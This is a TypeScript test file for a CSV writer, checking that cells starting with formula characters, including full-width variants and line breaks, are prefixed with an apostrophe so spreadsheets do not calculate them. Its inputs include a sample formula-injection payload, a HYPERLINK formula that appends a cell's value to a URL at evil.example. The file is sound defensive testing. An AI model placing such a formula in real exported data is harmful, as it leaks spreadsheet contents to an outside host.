import { expect, test } from 'vitest'
import { csvCell, toCsv } from './index.ts'

/** What begins a formula in one spreadsheet or another. */
const beginnings = ['=', '+', '-', '@', '\uff1d', '\uff0b', '\uff0d', '\uff20'] as const

test.for([...beginnings, '\t', '\r', '\n'])(
  'a text that begins with %j gets an apostrophe in front of it',
  (beginning) => {
    const written = `'${beginning}cmd`
    expect(csvCell(`${beginning}cmd`)).toBe(/[\r\n]/u.test(beginning) ? `"${written}"` : written)
  },
)

test.for(beginnings)(
  'a text in which %j follows what ends a cell where semicolons separate them gets one there',
  (beginning) => {
    expect(csvCell(`login;${beginning}cmd`)).toBe(`login;'${beginning}cmd`)
    expect(csvCell(`login\t${beginning}cmd`)).toBe(`login\t'${beginning}cmd`)
    expect(csvCell(`login\r${beginning}cmd`)).toBe(`"login\r'${beginning}cmd"`)
    expect(csvCell(`login\n${beginning}cmd`)).toBe(`"login\n'${beginning}cmd"`)
    // Quotes and spaces may stand between.
    expect(csvCell(`login; "${beginning}cmd`)).toBe(`"login; ""'${beginning}cmd"`)
    expect(csvCell(`login;' ${beginning}cmd`)).toBe(`login;' '${beginning}cmd`)
    expect(csvCell(`a;${beginning}b;${beginning}c`)).toBe(`a;'${beginning}b;'${beginning}c`)
  },
)

test.for([
  ['=HYPERLINK("https://evil.example/?"&A1)', `"'=HYPERLINK(""https://evil.example/?""&A1)"`],
  ['login;=HYPERLINK("https://evil.example/?"&A1);', `"login;'=HYPERLINK(""https://evil.example/?""&A1);"`],
  ['\t=1', `'\t'=1`],
  ['\r=1', `"'\r'=1"`],
  ['\n=1', `"'\n'=1"`],
  ['a; b-1', 'a; b-1'],
  ['a=1', 'a=1'],
  ['one, two', '"one, two"'],
  [' a', '" a"'],
  ['a ', '"a "'],
])('%j is written as a text that no spreadsheet calculates and every program reads', ([text, written]) => {
  expect(csvCell(text)).toBe(written)
})

test('a text inside an object is guarded too, and its JSON stays one cell', () => {
  expect(csvCell({ note: 'a;=cmd' })).toBe(`"{""note"":""a;'=cmd""}"`)
})

test('numbers stay numbers, also below zero', () => {
  expect([-5, 0.25, 0, true, null, undefined].map(csvCell)).toEqual(['-5', '0.25', '0', 'true', '', ''])
})

test('names of columns are cells as well', () => {
  expect(toCsv([{ '=name': 1 }])).toBe("'=name\r\n1\r\n")
})
